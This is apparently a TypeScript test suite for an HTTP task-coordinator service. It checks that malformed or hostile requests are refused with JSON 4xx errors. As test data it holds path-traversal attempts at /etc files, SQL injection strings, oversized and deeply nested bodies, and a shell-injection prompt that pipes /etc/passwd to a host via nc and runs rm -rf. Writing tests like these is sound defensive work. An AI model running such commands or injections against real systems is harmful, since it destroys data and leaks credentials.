/**
 * Bad input over real HTTP: every malformed or hostile request gets a 4xx with {error:{code, message, field?}},
 * never a 500, and never creates a task. Hostile-but-valid strings go through byte for byte.
 */
import assert from 'node:assert/strict';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { api, type ApiResponse } from '../helpers/api.js';
import { startTestCoordinator, type TestCoordinator } from '../helpers/coordinator.js';
import { eventually } from '../helpers/eventually.js';
import { startFakeLlm, type FakeLlm } from '../helpers/fake-llm.js';
import { readBody } from '../helpers/raw-http.js';

/**
 * The positive test sends a 100 KB prompt, so the limit cannot be 4 KB; the 413 tests send just over this limit
 * (and exactly this many bytes, which must still be read).
 */
const BODY_LIMIT = 160 * 1024;

interface Expected {
  status: number;
  code: string;
  field?: string;
  /** The message must match this, so it names the problem. */
  message?: RegExp;
}

function expectError(res: ApiResponse, want: Expected, label: string): void {
  const what = `${label}: ${JSON.stringify(res.body).slice(0, 300)}`;
  assert.equal(res.status, want.status, what);
  assert.match(res.headers.get('content-type') ?? '', /application\/json/, `${label}: error is JSON`);
  assert.equal(typeof res.body, 'object', what);
  assert.ok(res.body.error, what);
  assert.equal(res.body.error.code, want.code, what);
  assert.equal(typeof res.body.error.message, 'string', what);
  assert.ok(res.body.error.message.length > 0, what);
  if (want.field !== undefined) assert.equal(res.body.error.field, want.field, what);
  if (want.message) assert.match(res.body.error.message, want.message, what);
}

/**
 * A request over its own connection with node:http: with `length` set it sends a Content-Length, otherwise the body
 * goes chunked. Each call uses a fresh socket, so a connection the server gives up on cannot break later requests.
 */
function rawRequest(
  baseUrl: string,
  opts: { path: string; chunks: string[]; length?: boolean },
): Promise<ApiResponse> {
  const url = new URL(opts.path, baseUrl);
  const headers: Record<string, string> = { 'content-type': 'application/json' };
  if (opts.length) headers['content-length'] = String(opts.chunks.reduce((n, c) => n + Buffer.byteLength(c), 0));
  else headers['transfer-encoding'] = 'chunked';
  return new Promise((resolve, reject) => {
    const req = http.request(url, { method: 'POST', headers, agent: false }, (res) => {
      readBody(res).then((body) => {
        const h = new Headers();
        for (const [k, v] of Object.entries(res.headers)) if (typeof v === 'string') h.set(k, v);
        resolve({ status: res.statusCode ?? 0, headers: h, body });
      }, reject);
    });
    // The server may answer (413) and stop reading before all chunks are written; that is not a test failure.
    let answered = false;
    req.on('response', () => (answered = true));
    req.on('error', (err) => {
      if (!answered) reject(err);
    });
    for (const chunk of opts.chunks) req.write(chunk);
    req.end();
  });
}

/** Splits complete HTTP/1.1 responses (Content-Length framed) off the front of `buf`. */
function completeResponses(buf: string): Array<{ head: string; body: string }> {
  const out: Array<{ head: string; body: string }> = [];
  let rest = buf;
  for (;;) {
    const end = rest.indexOf('\r\n\r\n');
    if (end === -1) return out;
    const head = rest.slice(0, end);
    const length = Number(/content-length:\s*(\d+)/i.exec(head)?.[1] ?? 0);
    if (rest.length < end + 4 + length) return out;
    out.push({ head, body: rest.slice(end + 4, end + 4 + length) });
    rest = rest.slice(end + 4 + length);
  }
}

/**
 * On one raw keep-alive socket: sends `first` (a full request), waits for its response, then sends GET /health.
 * Returns both responses as far as they arrived, and whether the server closed the socket instead of answering.
 */
async function twoRequestsOnOneSocket(baseUrl: string, first: string): Promise<{ responses: Array<{ head: string; body: string }>; closed: boolean }> {
  const { port, hostname } = new URL(baseUrl);
  const socket = net.connect(Number(port), hostname);
  socket.setEncoding('latin1');
  let buf = '';
  let closed = false;
  socket.on('data', (d: string) => (buf += d));
  socket.on('close', () => (closed = true));
  socket.on('error', () => (closed = true));
  try {
    await new Promise<void>((resolve, reject) => socket.once('connect', resolve).once('error', reject));
    socket.write(first);
    await eventually(() => completeResponses(buf).length >= 1 || closed, 5000);
    if (!closed) socket.write('GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n');
    await eventually(() => completeResponses(buf).length >= 2 || closed, 5000);
    return { responses: completeResponses(buf), closed };
  } finally {
    socket.destroy();
  }
}

/** A delegate body of exactly `size` bytes that is valid JSON but fails validation (priority 0). */
function paddedInvalidBody(size: number): string {
  const skeleton = JSON.stringify({ prompt: 'x', priority: 0, pad: '' });
  const body = JSON.stringify({ prompt: 'x', priority: 0, pad: 'p'.repeat(size - Buffer.byteLength(skeleton)) });
  assert.equal(Buffer.byteLength(body), size);
  return body;
}

describe('bad input', () => {
  let fake: FakeLlm;
  let tc: TestCoordinator;
  let client: ReturnType<typeof api>;

  /** Generation requests the fake received (health probes are GETs and do not count). */
  const generations = () => fake.requests.filter((r) => r.method === 'POST');

  before(async () => {
    fake = await startFakeLlm();
    tc = await startTestCoordinator({ backends: [{ url: fake.url }], extra: { server: { body_limit_bytes: BODY_LIMIT } } });
    client = api(tc.url);
    writeFileSync(join(tc.dir, 'ok.txt'), 'inside the root\n');
    mkdirSync(join(tc.dir, 'subdir'));
    symlinkSync('/etc/hostname', join(tc.dir, 'escape-file'));
    symlinkSync('/etc', join(tc.dir, 'escape-dir'));
    symlinkSync('/etc/no-such-koubou-file', join(tc.dir, 'escape-nowhere'));
    mkdirSync(join(tc.dir, '.koubou'));
    writeFileSync(join(tc.dir, '.koubou', 'secret.txt'), 'koubou data\n');
    mkdirSync(join(tc.dir, 'config'));
    writeFileSync(join(tc.dir, 'config', 'koubou.yaml'), 'server: {}\n');
    writeFileSync(join(tc.dir, 'config', 'notes.md'), 'not excluded\n');
    symlinkSync(join(tc.dir, 'config', 'koubou.yaml'), join(tc.dir, 'config-link.txt'));
    writeFileSync(join(tc.dir, 'binary.bin'), Buffer.from([0x41, 0x00, 0x42]));
  });

  after(async () => {
    await tc?.close();
    await fake?.close();
  });

  it('malformed JSON and an empty body are 400 invalid_json', async () => {
    const cases: Array<[string, string]> = [
      ['truncated object', '{"prompt": "hi"'],
      ['trailing garbage', '{"prompt": "hi"} x'],
      ['single quotes', "{'prompt': 'hi'}"],
      ['bare word', 'prompt=hi'],
    ];
    for (const [label, raw] of cases) {
      expectError(await client.call('POST', '/task/delegate', undefined, { raw }), { status: 400, code: 'invalid_json', message: /not valid JSON/i }, label);
    }
    expectError(await client.call('POST', '/task/delegate', undefined, { raw: '' }), { status: 400, code: 'invalid_json', message: /empty/i }, 'empty body');
    expectError(await client.call('POST', '/task/delegate', undefined, { raw: '  \n\t ' }), { status: 400, code: 'invalid_json', message: /empty/i }, 'whitespace body');
    // No body at all (no Content-Length, nothing written).
    expectError(await client.call('POST', '/task/delegate'), { status: 400, code: 'invalid_json', message: /empty/i }, 'no body');
  });

  it('a body nesting arrays and objects deeper than 100 levels is 400 invalid_json on every JSON route, never 5xx', async () => {
    const deep = `{"x":${'['.repeat(4200)}${']'.repeat(4200)}}`;
    const nests = /the request body nests arrays and objects more than 100 levels deep/;
    for (const path of ['/task/delegate', '/mcp']) expectError(await client.call('POST', path, undefined, { raw: deep }), { status: 400, code: 'invalid_json', message: nests }, path);
    const graphql = await client.call('POST', '/graphql', undefined, { raw: deep });
    assert.equal(graphql.status, 400);
    assert.deepEqual(graphql.body.errors.map((e: { extensions: { code: string } }) => e.extensions.code), ['invalid_json']);
    const variables = await client.get(`/graphql?query=${encodeURIComponent('{ health { status } }')}&variables=${encodeURIComponent(`{"v":${'['.repeat(120)}${']'.repeat(120)}}`)}`);
    assert.equal(variables.status, 400, JSON.stringify(variables.body));
    assert.match(variables.body.errors[0].message, /variables nest arrays and objects more than 100 levels deep/);
    // The LLM gateway's routes say it in their protocol's shape.
    const openai = await client.call('POST', '/v1/chat/completions', undefined, { raw: deep });
    assert.equal(openai.status, 400);
    assert.equal(openai.body.error.code, 'invalid_json');
    assert.match(openai.body.error.message, nests);
    const ollama = await client.call('POST', '/api/chat', undefined, { raw: deep });
    assert.equal(ollama.status, 400);
    assert.match(ollama.body.error, nests);
    // 100 levels are read: this body gets as far as the schema, which names the field it does not know.
    const within = `{"prompt":"x","nested":${'['.repeat(99)}${']'.repeat(99)}}`;
    expectError(await client.call('POST', '/task/delegate', undefined, { raw: within }), { status: 400, code: 'invalid_request', message: /unknown field "nested"/ }, 'within the bound');
  });

  it('a body that is JSON but not an object is 400 invalid_request', async () => {
    const cases: Array<[string, string, RegExp]> = [
      ['array', '[{"prompt":"hi"}]', /JSON object.*array/],
      ['string', '"hi"', /JSON object.*string/],
      ['number', '42', /JSON object.*number/],
      ['null', 'null', /JSON object.*null/],
      ['boolean', 'true', /JSON object.*boolean/],
    ];
    for (const [label, raw, message] of cases) {
      expectError(await client.call('POST', '/task/delegate', undefined, { raw }), { status: 400, code: 'invalid_request', message }, label);
    }
  });

  it('a missing, empty or mistyped prompt is 400 naming prompt', async () => {
    const cases: Array<[string, unknown, RegExp]> = [
      ['missing', {}, /required/],
      ['missing, other fields present', { type: 'code', priority: 3 }, /required/],
      ['empty', { prompt: '' }, /empty/],
      ['whitespace only', { prompt: ' \n\t\r ' }, /empty/],
      ['number', { prompt: 42 }, /string.*number/],
      ['object', { prompt: { text: 'hi' } }, /string.*object/],
      ['array', { prompt: ['hi'] }, /string.*array/],
      ['null', { prompt: null }, /string.*null/],
    ];
    for (const [label, body, message] of cases) {
      expectError(await client.delegate(body), { status: 400, code: 'invalid_request', field: 'prompt', message }, `prompt ${label}`);
    }
  });

  it('a priority outside 1..10 or not an integer is 400 naming priority', async () => {
    for (const priority of [0, 11, -1, 5.5, '5', null, true, [5], { value: 5 }]) {
      expectError(
        await client.delegate({ prompt: 'hi', priority }),
        { status: 400, code: 'invalid_request', field: 'priority', message: /integer from 1 to 10/ },
        `priority ${JSON.stringify(priority)}`,
      );
    }
  });

  it('an unknown type, disagreeing type/task_type and a non-boolean sync are 400', async () => {
    expectError(await client.delegate({ prompt: 'hi', type: 'poetry' }), { status: 400, code: 'invalid_request', field: 'type', message: /poetry/ }, 'unknown type');
    expectError(await client.delegate({ prompt: 'hi', type: 7 }), { status: 400, code: 'invalid_request', field: 'type', message: /one of/ }, 'numeric type');
    expectError(await client.delegate({ prompt: 'hi', task_type: 'poetry' }), { status: 400, code: 'invalid_request', field: 'task_type', message: /poetry/ }, 'unknown task_type');
    expectError(await client.delegate({ prompt: 'hi', type: 'code', task_type: 'analysis' }), { status: 400, code: 'invalid_request', field: 'type', message: /disagree/ }, 'type vs task_type');
    for (const sync of ['yes', 'true', 1, 0, null, {}]) {
      expectError(await client.delegate({ prompt: 'hi', sync }), { status: 400, code: 'invalid_request', field: 'sync', message: /true or false/ }, `sync ${JSON.stringify(sync)}`);
    }
  });

  it('files that are not a list of strings are 400', async () => {
    for (const include of ['yes', 1, null]) {
      expectError(
        await client.delegate({ prompt: 'hi', options: { include_reasoning: include } }),
        { status: 400, code: 'invalid_request', field: 'options.include_reasoning', message: /true or false/ },
        `include_reasoning ${JSON.stringify(include)}`,
      );
    }
    expectError(await client.delegate({ prompt: 'hi', files: 'ok.txt' }), { status: 400, code: 'invalid_request', field: 'files', message: /array/ }, 'files string');
    expectError(await client.delegate({ prompt: 'hi', files: { 0: 'ok.txt' } }), { status: 400, code: 'invalid_request', field: 'files', message: /array/ }, 'files object');
    expectError(await client.delegate({ prompt: 'hi', files: ['ok.txt', 3] }), { status: 400, code: 'invalid_request', field: 'files[1]', message: /non-empty path/ }, 'files with a number');
    expectError(await client.delegate({ prompt: 'hi', files: [''] }), { status: 400, code: 'invalid_request', field: 'files[0]', message: /non-empty path/ }, 'files with an empty path');
    expectError(await client.delegate({ prompt: 'hi', files: ['ok.txt\u0000.png'] }), { status: 400, code: 'invalid_request', field: 'files[0]', message: /not a usable path/ }, 'files with NUL');
    expectError(
      await client.delegate({ prompt: 'hi', files: Array.from({ length: 51 }, () => 'ok.txt') }),
      { status: 400, code: 'invalid_request', field: 'files', message: /at most 50/ },
      'too many files',
    );
  });

  it('files outside the root, missing, a directory, a symlink out of the root or binary are 400', async () => {
    const cases: Array<[string, string[], string, RegExp]> = [
      ['relative escape', ['../../etc/passwd'], 'files[0]', /is not a file inside the allowed root/],
      ['deep relative escape', ['subdir/../../../../../../etc/hostname'], 'files[0]', /is not a file inside the allowed root/],
      ['absolute path outside', ['/etc/hostname'], 'files[0]', /is not a file inside the allowed root/],
      ['good file then an absolute path outside', ['ok.txt', '/etc/hostname'], 'files[1]', /is not a file inside the allowed root/],
      ['missing file', ['no-such-file.txt'], 'files[0]', /is not a file inside the allowed root/],
      ['directory', ['subdir'], 'files[0]', /not a regular file/],
      ['the root itself', ['.'], 'files[0]', /not a regular file/],
      ['symlink to a file outside', ['escape-file'], 'files[0]', /is not a file inside the allowed root/],
      ['through a symlinked directory outside', ['escape-dir/hostname'], 'files[0]', /is not a file inside the allowed root/],
      ['binary file', ['binary.bin'], 'files[0]', /not a text file/],
    ];
    for (const [label, files, field, message] of cases) {
      const res = await client.delegate({ prompt: 'hi', files });
      expectError(res, { status: 400, code: 'invalid_request', field, message }, label);
      // The message names the offending path, and never leaks the file's content.
      assert.ok(res.body.error.message.includes(JSON.stringify(files[Number(field.slice(6, -1))])), `${label}: message names the path`);
    }
  });

  it('errors never tell whether a path outside the root exists: the same message for existing and missing', async () => {
    const pairs: Array<[string, string]> = [
      ['/etc/hostname', '/etc/no-such-koubou-file'],
      ['../../../../../../etc/hostname', '../../../../../../etc/no-such-koubou-file'],
      ['escape-dir/hostname', 'escape-dir/no-such-koubou-file'],
      ['escape-file', 'escape-nowhere'],
    ];
    for (const [exists, missing] of pairs) {
      const a = (await client.delegate({ prompt: 'hi', files: [exists] })).body.error;
      const b = (await client.delegate({ prompt: 'hi', files: [missing] })).body.error;
      assert.equal(a.message.replace(JSON.stringify(exists), 'PATH'), b.message.replace(JSON.stringify(missing), 'PATH'), `${exists} vs ${missing}`);
      assert.deepEqual([a.code, a.field], [b.code, b.field]);
    }
  });

  it("Koubou's own files cannot be attached: .koubou/, config/*.yaml, the store and its journal wherever they are, also through a symlink", async () => {
    for (const path of ['.koubou/secret.txt', 'config/koubou.yaml', 'koubou.db', 'koubou.db-wal', 'config-link.txt', join(tc.dir, 'koubou.db')]) {
      expectError(await client.delegate({ prompt: 'hi', files: [path] }), { status: 400, code: 'invalid_request', field: 'files[0]', message: /may not be attached/ }, path);
    }
    // Other files in those folders pass (the error is about the next entry; no task is created here).
    expectError(await client.delegate({ prompt: 'hi', files: ['config/notes.md', '.koubou/secret.txt'] }), { status: 400, code: 'invalid_request', field: 'files[1]', message: /may not be attached/ }, 'notes.md passes');
  });

  it('bad options are 400 naming the option', async () => {
    for (const options of ['fast', 5, [1], true]) {
      expectError(await client.delegate({ prompt: 'hi', options }), { status: 400, code: 'invalid_request', field: 'options', message: /object/ }, `options ${JSON.stringify(options)}`);
    }
    for (const timeout of [-1, 0, '10', 86_401, 1e12, null, {}]) {
      expectError(
        await client.delegate({ prompt: 'hi', options: { timeout } }),
        { status: 400, code: 'invalid_request', field: 'options.timeout', message: /above 0 and at most 86400/ },
        `timeout ${JSON.stringify(timeout)}`,
      );
    }
    for (const model of ['', '   ', 42, null, ['m'], 'm'.repeat(257)]) {
      expectError(
        await client.delegate({ prompt: 'hi', options: { model } }),
        { status: 400, code: 'invalid_request', field: 'options.model', message: /model name/ },
        `model ${JSON.stringify(model).slice(0, 20)}`,
      );
    }
  });

  it('a body over the limit is 413 payload_too_large, with a Content-Length and chunked', async () => {
    const over = paddedInvalidBody(BODY_LIMIT + 1);
    const farOver = over + 'x'.repeat(200_000);
    const atLimit = paddedInvalidBody(BODY_LIMIT);
    const tooLarge = { status: 413, code: 'payload_too_large', message: new RegExp(`${BODY_LIMIT}-byte limit`) };
    const split = (body: string, size: number) => {
      const chunks: string[] = [];
      for (let i = 0; i < body.length; i += size) chunks.push(body.slice(i, i + size));
      return chunks;
    };
    const send = (body: string, length: boolean) => rawRequest(tc.url, { path: '/task/delegate', chunks: split(body, 1000), length });

    for (const length of [true, false]) {
      const how = length ? 'content-length' : 'chunked';
      expectError(await send(over, length), tooLarge, `${how}, 1 byte over`);
      expectError(await send(farOver, length), tooLarge, `${how}, far over`);
      // Exactly at the limit is read and validated: the limit is not off by one.
      expectError(await send(atLimit, length), { status: 400, code: 'invalid_request', field: 'priority' }, `${how}, at the limit`);
    }
    // A valid delegate body over the limit is refused too (checked below: no task was created).
    expectError(await send(JSON.stringify({ prompt: 'y'.repeat(BODY_LIMIT) }), true), tooLarge, 'valid task over the limit');
    // /mcp reads its bodies under the same limit, not the MCP library's larger one.
    const call = { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'delegate_task', arguments: { prompt: 'y'.repeat(BODY_LIMIT) } } };
    const mcp = await rawRequest(tc.url, { path: '/mcp', chunks: split(JSON.stringify(call), 1000), length: true });
    expectError(mcp, tooLarge, '/mcp over the limit');
  });

  it('after a 413 the connection is either closed or still answers', async () => {
    const body = paddedInvalidBody(BODY_LIMIT + 1) + 'x'.repeat(200_000);
    const request = `POST /task/delegate HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
    const { responses, closed } = await twoRequestsOnOneSocket(tc.url, request);
    assert.ok(responses.length >= 1, 'the oversized request is answered');
    assert.match(responses[0]!.head, /^HTTP\/1\.1 413 /);
    const keepAlive = !/^connection:\s*close/im.test(responses[0]!.head);
    // BUG: the 413 says "Connection: keep-alive", but the server never reads the next request on that socket and closes it ~500 ms later, so a keep-alive client's next request fails with "other side closed".
    assert.ok(!keepAlive || (responses.length === 2 && /^HTTP\/1\.1 200 /.test(responses[1]!.head)), `after a keep-alive 413 the next request on the socket must be answered (closed: ${closed}, responses: ${responses.length})`);
  });

  it('GET /tasks refuses a bogus status or limit', async () => {
    expectError(await client.get('/tasks?status=bogus'), { status: 400, code: 'invalid_request', field: 'status', message: /bogus/ }, 'status=bogus');
    expectError(await client.get('/tasks?status=PENDING'), { status: 400, code: 'invalid_request', field: 'status', message: /PENDING/ }, 'status=PENDING');
    // Only decimal digits: Number() would also read 1e1 as 10 and 0x9 as 9.
    for (const limit of ['0', 'abc', '100000', '-1', '2.5', '1001', '1e1', '0x9', '1.0', '+5']) {
      expectError(await client.get(`/tasks?limit=${limit}`), { status: 400, code: 'invalid_request', field: 'limit', message: /1 to 1000/ }, `limit=${limit}`);
    }
    // Said twice, one would be dropped unsaid.
    expectError(await client.get('/tasks?status=pending&status=failed'), { status: 400, code: 'invalid_request', field: 'status', message: /once/ }, 'status twice');
    expectError(await client.get('/tasks?limit=5&limit=6'), { status: 400, code: 'invalid_request', field: 'limit', message: /once/ }, 'limit twice');
    // The boundaries themselves are fine.
    assert.equal((await client.get('/tasks?limit=1')).status, 200);
    assert.equal((await client.get('/tasks?limit=1000')).status, 200);
  });

  it('a long poll refuses a wait that is not decimal seconds from 0 to 60, naming wait', async () => {
    // Checked before the task is looked up: a good wait gets as far as the (unknown) task.
    for (const wait of ['0x10', '1e1', '-1', '61', 'abc', '+5', ' 5', '5s', 'Infinity']) {
      expectError(await client.get(`/task/no-such-task/status?wait=${encodeURIComponent(wait)}`), { status: 400, code: 'invalid_request', field: 'wait', message: /0 to 60/ }, `wait=${wait}`);
    }
    for (const wait of ['0', '0.5', '60']) assert.equal((await client.get(`/task/no-such-task/status?wait=${wait}`)).status, 404, `wait=${wait}`);
  });

  it('unknown and hostile task ids are 404 task_not_found', async () => {
    const ids = ['no-such-task', "'; DROP TABLE tasks; --", "' OR '1'='1", 'x'.repeat(2000), '%00', '../../etc/passwd'];
    for (const id of ids) {
      const label = `id ${id.slice(0, 30)}`;
      const res = await client.status(id);
      expectError(res, { status: 404, code: 'task_not_found' }, `status ${label}`);
      assert.ok(res.body.error.message.includes(JSON.stringify(id)), `${label}: message names the id`);
      expectError(await client.get(`/task/${encodeURIComponent(id)}/events`), { status: 404, code: 'task_not_found' }, `events ${label}`);
    }
    // The SQL above did nothing: the table is still there and answers.
    const list = await client.get('/tasks');
    assert.equal(list.status, 200);
    assert.deepEqual(list.body, { tasks: [], count: 0 });
  });

  it('unknown routes are 404 with a JSON error; known routes asked with another method are 405 with Allow', async () => {
    const cases: Array<[string, string]> = [
      ['GET', '/nope'],
      ['POST', '/task/delegate/extra'],
      // `/` is the dashboard's page; a file it does not have is still a 404.
      ['GET', '/dashboard/nope.js'],
    ];
    for (const [method, path] of cases) {
      expectError(await client.call(method, path), { status: 404, code: 'not_found', message: new RegExp(path.replaceAll('/', '\\/')) }, `${method} ${path}`);
    }
    const wrongMethod: Array<[string, string, string]> = [
      ['GET', '/task/delegate', 'POST'],
      ['DELETE', '/task/abc/status', 'GET'],
      ['POST', '/tasks', 'GET'],
      ['POST', '/', 'GET'],
    ];
    for (const [method, path, allow] of wrongMethod) {
      const res = await client.call(method, path);
      expectError(res, { status: 405, code: 'method_not_allowed', message: new RegExp(path.replaceAll('/', '\\/')) }, `${method} ${path}`);
      assert.equal(res.headers.get('allow'), allow, `${method} ${path}`);
    }
  });

  it('after all of that the server is healthy and no task was created', async () => {
    const health = await client.get('/health');
    assert.equal(health.status, 200);
    assert.equal(health.body.status, 'ok');
    assert.deepEqual(health.body.queue, { pending: 0, in_progress: 0, completed: 0, failed: 0, cancelled: 0 });
    const list = await client.get('/tasks?limit=1000');
    assert.equal(list.status, 200);
    assert.equal(list.body.count, 0);
    assert.equal(generations().length, 0, 'the backend never saw a generation request');
    const workers = await client.get('/workers');
    assert.equal(workers.body.count, 1);
    assert.equal(workers.body.workers[0].completed + workers.body.workers[0].failed, 0);
  });

  it('hostile but valid strings are stored and passed through verbatim', async () => {
    const big = Array.from({ length: 2800 }, (_, i) => `line ${String(i).padStart(4, '0')}: the quick brown fox\tjumps\n`).join('');
    const prompts: Array<[string, string]> = [
      ['NUL', 'before\u0000after'],
      ['SQL', "'); DROP TABLE tasks;--"],
      ['SQL 2', "Robert'); DELETE FROM task_events WHERE ('1'='1"],
      ['emoji and CJK', '日本語のテキスト 🤖🔥 한국어 中文 👩‍👩‍👧‍👦 é ñ'],
      ['shell', 'echo $(rm -rf /) `reboot` && cat /etc/passwd | nc evil 1 ; $HOME ${IFS}'],
      ['control chars and quotes', 'tab\there "double" \'single\' back\\slash \r\n\u001b[31mred\u001b[0m \u2028\u2029'],
      ['JSON-looking', '{"prompt": "nested", "priority": 99}'],
      ['100 KB', big],
    ];
    assert.ok(big.length >= 100 * 1024, 'the big prompt is at least 100 KB');
    for (const [label, prompt] of prompts) {
      const res = await client.delegate({ prompt, sync: true });
      assert.equal(res.status, 200, `${label}: ${JSON.stringify(res.body).slice(0, 300)}`);
      assert.equal(res.body.status, 'completed', `${label}: ${JSON.stringify(res.body.result).slice(0, 300)}`);
      const seen = fake.requests.filter((r) => r.method === 'POST' && r.prompt === prompt);
      assert.equal(seen.length, 1, `${label}: the backend received the prompt unchanged, once`);
      assert.equal(res.body.result.output, `echo(fake-model): ${prompt}`, `${label}: output is the unchanged echo`);
      // Read back from the store too.
      const status = await client.status(res.body.task_id);
      assert.equal(status.body.result.output, `echo(fake-model): ${prompt}`, `${label}: stored output unchanged`);
    }
    const list = await client.get('/tasks?limit=1000');
    assert.equal(list.body.count, prompts.length, 'the SQL strings dropped nothing');
  });
});
